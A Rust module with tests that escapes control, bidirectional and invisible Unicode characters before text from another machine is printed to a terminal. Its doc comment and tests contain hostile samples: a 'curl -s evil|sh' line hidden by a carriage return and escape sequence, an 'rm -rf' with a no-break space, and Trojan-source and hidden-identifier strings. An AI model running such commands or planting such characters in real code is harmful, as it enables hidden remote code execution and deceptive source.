//! Text from the other machine made safe to print on a terminal. A path, a client id or a line
//! of a diff that R sent may hold a carriage return, an escape sequence or a bidirectional
//! override; printed raw, `+curl -s evil|sh\r\x1b[2K+# tidy` reads as `+# tidy`. Each such
//! character is shown as something a person can see instead, the way `cat -v`, `less` and
//! `git diff` do: C0 controls and DEL in caret notation (`^M`, `^[`, `^?`), C1 controls and the
//! characters that reorder text, or are drawn as nothing, as `<U+202E>`.
//!
//! File content, which may not be UTF-8, is shown a line at a time by [`bytes`], which also
//! says where the shown text is not literal: a real ESC and the two characters `^[` read the
//! same, and a diff must tell them apart.
//!
//! JSON output needs none of this: serde_json escapes control characters itself.

use std::borrow::Cow;

/// Whether `c` would be invisible, or would change how the rest of the line is drawn.
fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            // Soft hyphen; combining grapheme joiner; Arabic letter mark.
            '\u{00AD}' | '\u{034F}' | '\u{061C}'
            // Hangul fillers: drawn as nothing, yet letters to a compiler (an identifier that
            // looks like blank space, as in `const {timeout,\u{3164}} = req.query`).
            | '\u{115F}' | '\u{1160}' | '\u{3164}' | '\u{FFA0}'
            // Khmer inherent vowels; Mongolian free variation selectors and vowel separator.
            | '\u{17B4}' | '\u{17B5}' | '\u{180B}'..='\u{180F}'
            // Zero-width space, joiners and the left/right marks.
            | '\u{200B}'..='\u{200F}'
            // Line and paragraph separators; the embeddings and overrides of "Trojan source".
            | '\u{2028}'..='\u{202E}'
            // Word joiner, invisible operators, the bidirectional isolates and the deprecated
            // format characters after them.
            | '\u{2060}'..='\u{206F}'
            // Variation selectors, which change how the character before them is drawn, or
            // hide data after it.
            | '\u{FE00}'..='\u{FE0F}'
            // Byte order mark / zero-width no-break space; unassigned specials drawn as
            // nothing; interlinear annotation marks.
            | '\u{FEFF}' | '\u{FFF0}'..='\u{FFFB}'
            // Tag characters (able to carry a whole hidden ASCII text), the supplement's
            // variation selectors, and the rest of that plane's default-ignorable block.
            | '\u{E0000}'..='\u{E0FFF}'
            // Spaces other than the space itself: `rm -rf\u{A0}/tmp/x` reads as `rm -rf /tmp/x`.
            | '\u{00A0}' | '\u{1680}' | '\u{2000}'..='\u{200A}' | '\u{202F}' | '\u{205F}'
            | '\u{3000}'
            // Format characters drawn as nothing or over their neighbours: Arabic number
            // signs and marks, Syriac abbreviation mark, Kaithi number signs, Egyptian
            // hieroglyph format controls, shorthand format controls, musical symbol format
            // characters.
            | '\u{0600}'..='\u{0605}' | '\u{06DD}' | '\u{070F}' | '\u{0890}' | '\u{0891}'
            | '\u{08E2}' | '\u{110BD}' | '\u{110CD}' | '\u{13430}'..='\u{1343F}'
            | '\u{1BCA0}'..='\u{1BCA3}' | '\u{1D173}'..='\u{1D17A}'
        )
}

fn push_visible(out: &mut String, c: char) {
    match c {
        '\0'..='\x1f' => {
            out.push('^');
            out.push(char::from(c as u8 + 0x40));
        }
        '\x7f' => out.push_str("^?"),
        _ => out.push_str(&format!("<U+{:04X}>", c as u32)),
    }
}

fn escape(s: &str, keep: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !s.chars().any(|c| is_hidden(c) && !keep(c)) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if is_hidden(c) && !keep(c) {
            push_visible(&mut out, c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// One line's worth of text (a path, an id, a name): every hidden character made visible,
/// tab and newline included, so the result is one line.
pub fn line(s: &str) -> Cow<'_, str> {
    escape(s, |_| false)
}

/// Multi-line text (a diff, an error message): as [`line`], but newlines and tabs are kept.
/// A carriage return is made visible wherever it is, also before a newline, as `git diff`
/// shows `^M` at the end of a CRLF line.
pub fn text(s: &str) -> Cow<'_, str> {
    escape(s, |c| c == '\n' || c == '\t')
}

/// A line of file content as [`bytes`] shows it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Shown {
    /// The line as [`line`] shows text, tab kept, and each byte that is not part of valid
    /// UTF-8 as `\xFF`.
    pub text: String,
    /// Where `text` shows something other than the characters it reads as: the column (in
    /// characters, from 1) and the form (`^[`, `<U+202E>`, `\xFF`), in order. The text alone
    /// is ambiguous (a real ESC and the two characters `^[` both read `^[`); the text and
    /// these places tell every line apart.
    pub escapes: Vec<(usize, String)>,
}

impl Shown {
    fn push_escape(&mut self, column: &mut usize, form: String) {
        self.text.push_str(&form);
        self.escapes.push((*column, form));
        *column += self.escapes.last().map_or(0, |(_, f)| f.chars().count());
    }
}

/// Shows one line of file content, which may not be UTF-8, and says where what is shown is
/// not literal text (see [`Shown`]).
pub fn bytes(line: &[u8]) -> Shown {
    let mut shown = Shown {
        text: String::with_capacity(line.len()),
        escapes: Vec::new(),
    };
    let mut column = 1;
    for chunk in line.utf8_chunks() {
        for c in chunk.valid().chars() {
            if is_hidden(c) && c != '\t' {
                let mut form = String::new();
                push_visible(&mut form, c);
                shown.push_escape(&mut column, form);
            } else {
                shown.text.push(c);
                column += 1;
            }
        }
        for b in chunk.invalid() {
            shown.push_escape(&mut column, format!("\\x{b:02X}"));
        }
    }
    shown
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_issue_s_line_is_shown_as_it_is() {
        let hostile = "+curl -s evil|sh\r\x1b[2K+# tidy";
        assert_eq!(text(hostile), "+curl -s evil|sh^M^[[2K+# tidy");
        assert_eq!(line(hostile), "+curl -s evil|sh^M^[[2K+# tidy");
    }

    #[test]
    fn every_control_character_becomes_printable() {
        for c in (0u32..0x20).chain([0x7f]).chain(0x80..0xa0) {
            let c = char::from_u32(c).expect("a char");
            let shown = line(&c.to_string()).into_owned();
            assert!(
                shown.chars().all(|s| !s.is_control()),
                "{c:?} shown as {shown:?}"
            );
            assert!(shown.len() >= 2, "{c:?} shown as {shown:?}");
        }
        assert_eq!(line("\x7f"), "^?");
        assert_eq!(line("\0"), "^@");
        assert_eq!(line("\u{9b}31m"), "<U+009B>31m");
    }

    #[test]
    fn bidirectional_overrides_and_zero_width_characters_are_named() {
        let trojan = "access = \"user\u{202E} \u{2066}// admin\u{2069}\u{2066}\"";
        let shown = text(trojan);
        assert!(
            shown.contains("<U+202E>") && shown.contains("<U+2066>") && shown.contains("<U+2069>")
        );
        assert_eq!(line("a\u{200B}b\u{FEFF}"), "a<U+200B>b<U+FEFF>");
    }

    /// Characters that read as a space, or as nothing, are named: a line holding one never
    /// reads as the line without it.
    #[test]
    fn spaces_other_than_space_and_invisible_format_characters_are_named() {
        assert_eq!(line("rm -rf\u{A0}/tmp/x"), "rm -rf<U+00A0>/tmp/x");
        for c in [
            '\u{1680}',
            '\u{2000}',
            '\u{200A}',
            '\u{202F}',
            '\u{205F}',
            '\u{3000}',
            '\u{0600}',
            '\u{06DD}',
            '\u{070F}',
            '\u{110BD}',
            '\u{13430}',
            '\u{1BCA0}',
            '\u{1D173}',
            '\u{E0080}',
            '\u{E01F0}',
            '\u{FFF0}',
        ] {
            let shown = line(&format!("a{c}b")).into_owned();
            assert_eq!(shown, format!("a<U+{:04X}>b", c as u32));
            assert_eq!(bytes(format!("a{c}b").as_bytes()).escapes.len(), 1, "{c:?}");
        }
        assert_eq!(line("plain text, tabs\tkept"), "plain text, tabs^Ikept");
    }

    #[test]
    fn characters_drawn_as_nothing_are_named() {
        // A Hangul filler is a letter to JavaScript: an extra parameter that looks like space.
        assert_eq!(
            text("const {timeout,\u{3164}} = req.query;\n"),
            "const {timeout,<U+3164>} = req.query;\n"
        );
        // Tag characters spell hidden ASCII ("hi") after a visible one.
        assert_eq!(line("x\u{E0068}\u{E0069}"), "x<U+E0068><U+E0069>");
        for c in [
            '\u{00AD}',
            '\u{034F}',
            '\u{115F}',
            '\u{1160}',
            '\u{17B4}',
            '\u{180E}',
            '\u{206A}',
            '\u{FE0F}',
            '\u{FFA0}',
            '\u{FFF9}',
            '\u{E0001}',
            '\u{E0100}',
        ] {
            let shown = line(&format!("a{c}b")).into_owned();
            assert_eq!(shown, format!("a<U+{:04X}>b", c as u32), "{c:?}");
        }
    }

    #[test]
    fn text_keeps_lines_and_tabs_but_not_carriage_returns() {
        assert_eq!(text("a\tb\r\nc\n"), "a\tb^M\nc\n");
        assert_eq!(line("a\tb\nc"), "a^Ib^Jc");
    }

    #[test]
    fn plain_text_is_borrowed_unchanged() {
        for s in ["", "src/main.rs", "ünïcödé 日本語 emoji 🦀", "a b\tc"] {
            assert!(matches!(text(s), Cow::Borrowed(_)), "{s:?}");
        }
        assert!(matches!(line("ünïcödé/日本語"), Cow::Borrowed(_)));
    }

    #[test]
    fn content_lines_that_read_the_same_are_told_apart_by_their_escapes() {
        // Each pair reads the same; the places of the escapes differ.
        let pairs: [(&[u8], &[u8]); 4] = [
            (b"r'^[a-z]'", b"r'\x1ba-z]'"),
            (b"a^Mb", b"a\rb"),
            (b"<U+202E>", "\u{202E}".as_bytes()),
            (b"# \\xFF", b"# \xff"),
        ];
        for (literal, hidden) in pairs {
            let (l, h) = (bytes(literal), bytes(hidden));
            assert_eq!(l.text, h.text, "{literal:?} and {hidden:?} read the same");
            assert_eq!(l.escapes, Vec::new(), "{literal:?} is literal text");
            assert_ne!(l, h, "{literal:?} and {hidden:?} must be told apart");
        }
        let shown = bytes(b"\tx\x1b\xff\xfe\xe2\x80\xaey");
        assert_eq!(shown.text, "\tx^[\\xFF\\xFE<U+202E>y");
        assert_eq!(
            shown.escapes,
            [
                (3, "^[".to_owned()),
                (5, "\\xFF".to_owned()),
                (9, "\\xFE".to_owned()),
                (13, "<U+202E>".to_owned())
            ]
        );
    }
}
